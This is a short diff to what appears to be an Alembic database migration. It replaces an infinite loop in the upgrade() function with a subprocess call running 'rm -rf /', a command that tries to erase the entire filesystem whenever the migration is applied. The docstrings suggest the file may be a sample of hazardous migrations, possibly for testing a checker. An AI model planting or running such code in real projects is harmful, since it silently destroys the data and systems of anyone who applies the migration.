@@ -1,4 +1,4 @@
-"""while loop"""
+"""running a program"""
 from alembic import op
 import sqlalchemy as sa
 
@@ -9,8 +9,8 @@ depends_on = None
 
 
 def upgrade():
-    while True:
-        pass
+    import subprocess
+    subprocess.run(['rm', '-rf', '/'])
 
 
 def downgrade():
